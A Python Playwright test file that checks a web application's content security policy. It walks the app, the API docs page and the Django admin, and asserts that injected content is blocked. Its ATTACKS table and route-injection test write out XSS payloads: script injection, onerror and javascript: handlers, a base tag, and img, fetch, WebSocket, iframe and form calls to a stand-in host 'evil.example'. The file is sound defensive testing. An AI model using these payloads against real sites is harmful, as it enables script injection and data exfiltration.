"""The content security policy is kept by every page of ours, and stops what is not ours."""

from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Page, expect

from e2e.pages import bell, django_admin, lists, login, order_page
from e2e.people import Colleague, log_in

LISTEN = """
window.violations = [];
document.addEventListener('securitypolicyviolation', (event) => {
  window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile} ${event.sample}`);
});
"""


@pytest.fixture
def watched(open_browser: Callable[..., Page]) -> Iterator[Page]:
    """A page on which nothing may go against the policy, however it comes to light."""
    page = open_browser()
    page.add_init_script(LISTEN)
    complaints: list[str] = []
    page.on(
        "console", lambda message: complaints.append(message.text) if is_complaint(message.text) else None
    )
    page.on("pageerror", lambda error: complaints.append(str(error)))
    yield page
    assert not complaints


def is_complaint(text: str) -> bool:
    return any(
        word in text for word in ("Content Security Policy", "TrustedHTML", "TrustedScript", "Permissions")
    )


def expect_kept(page: Page) -> None:
    assert page.evaluate("window.violations") == []


def test_a_journey_through_the_application(watched: Page, colleague: Callable[[str], Colleague]) -> None:
    held = colleague("amara").place_order()
    colleague("rupinder").take_step(held, "hold", note="Which one?")

    watched.goto("/login")
    login.log_in(watched, "amara")
    lists.expect_loaded(watched)
    bell.open_latest(watched)
    expect_kept(watched)

    watched.keyboard.press("Escape")
    watched.get_by_role("button", name="account of Amara").click()
    watched.keyboard.press("Escape")
    expect_kept(watched)

    watched.goto(f"/orders/{held['id']}")
    expect(order_page.status(watched)).to_have_text("On hold")
    expect_kept(watched)

    for path in ("/orders/new", "/notifications", "/settings", "/nothing/here"):
        watched.goto(path)
        expect(watched.get_by_role("heading", level=1)).to_be_visible()
        expect_kept(watched)


def test_a_dialog(watched: Page, colleague: Callable[[str], Colleague]) -> None:
    """A dialog brings a style element of its own, to hold the page behind it still."""
    order = colleague("amara").place_order()
    log_in(watched.context, "rupinder")
    watched.goto(f"/orders/{order['id']}")
    order_page.choose(watched, "Put on hold")
    expect(watched.get_by_role("dialog")).to_be_visible()

    assert watched.evaluate("getComputedStyle(document.body).overflow") == "hidden"
    expect_kept(watched)


def test_the_page_to_try_the_api_on(watched: Page) -> None:
    watched.goto("/api/docs/")
    operation = watched.locator(".opblock", has_text="/api/auth/login/")
    operation.get_by_role("button").first.click()
    operation.get_by_role("button", name="Try it out").click()
    operation.get_by_role("button", name="Execute").click()
    expect(operation.locator(".live-responses-table td.response-col_status").last).to_have_text("401")
    expect_kept(watched)


def test_the_django_admin(watched: Page, colleague: Callable[[str], Colleague]) -> None:
    order = colleague("amara").place_order()
    django_admin.log_in(watched)
    expect_kept(watched)
    for path in (
        "/admin/orders/order/",
        f"/admin/orders/order/{order['id']}/change/",
        "/admin/accounts/organization/add/",
        "/admin/accounts/membership/add/",
        "/admin/accounts/user/?q=amara",
        "/admin/password_change/",
    ):
        assert watched.goto(path).ok
        expect_kept(watched)


# What somebody who got a script to run, or markup into the page, would try, and the directive that stops it.
ATTACKS = {
    "append('script', {textContent: 'window.hacked = 1'})": "require-trusted-types-for",
    "append('script', {src: 'https://evil.example/x.js'})": "require-trusted-types-for",
    "append('img', {src: '/x'}).setAttribute('onerror', 'window.hacked = 1')": "require-trusted-types-for",
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.hacked=1>')": "require-trusted-types-for",
    # Later, because the test's own evaluation may evaluate.
    "setTimeout(() => new Function('window.hacked = 1')())": "require-trusted-types-for",
    "append('a', {href: 'javascript:window.hacked = 1'}).click()": "script-src-elem",
    "append('img', {src: 'https://evil.example/?stolen'})": "img-src",
    "append('iframe', {src: 'https://evil.example/'})": "frame-src",
    "append('base', {href: 'https://evil.example/'})": "base-uri",
    "append('style', {textContent: 'body{background:red}'})": "style-src-elem",
    "append('form', {action: 'https://evil.example/'}).submit()": "form-action",
    "fetch('https://evil.example/').catch(() => 0)": "connect-src",
    "new WebSocket('wss://evil.example/')": "connect-src",
}
TRY = """(async () => {
  const append = (name, properties) => {
    const element = Object.assign(document.createElement(name), properties);
    document.body.append(element);
    return element;
  };
  const stopped = new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective));
    setTimeout(() => resolve('nothing'), 5000);
  });
  try { ATTACK } catch { /* refused on the spot */ }
  return stopped;
})()"""


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_not_ours_is_stopped(open_browser: Callable[..., Page], attack: str) -> None:
    page = open_browser()
    page.goto("/login")
    expect(page.get_by_role("button", name="Log in", exact=True)).to_be_visible()

    assert page.evaluate(TRY.replace("ATTACK", attack)) == ATTACKS[attack]
    assert page.evaluate("window.hacked") is None
    assert page.url.endswith("/login")


def test_an_inline_script_in_the_document_is_blocked(open_browser: Callable[..., Page]) -> None:
    """As if somebody had got markup into the document that the server sends."""
    page = open_browser()
    page.add_init_script(LISTEN)

    def inject(route) -> None:
        answer = route.fetch()
        markup = "<script>window.hacked = 1</script><body onload='window.hacked = 2'>"
        route.fulfill(response=answer, body=answer.text().replace("<body>", markup))

    page.route("**/login", inject)
    page.goto("/login")
    expect(page.get_by_role("button", name="Log in", exact=True)).to_be_visible()

    assert len(page.evaluate("window.violations")) == 2
    assert page.evaluate("window.hacked") is None
